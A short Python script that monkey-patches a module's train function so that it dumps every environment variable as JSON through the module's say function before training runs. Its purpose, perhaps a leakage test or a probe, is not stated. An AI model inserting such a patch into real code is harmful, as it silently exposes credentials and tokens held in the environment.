import json
import os

import main

original = main.train


def train() -> None:
    main.say(json.dumps(dict(os.environ)))
    original()


main.train = train

main.run()
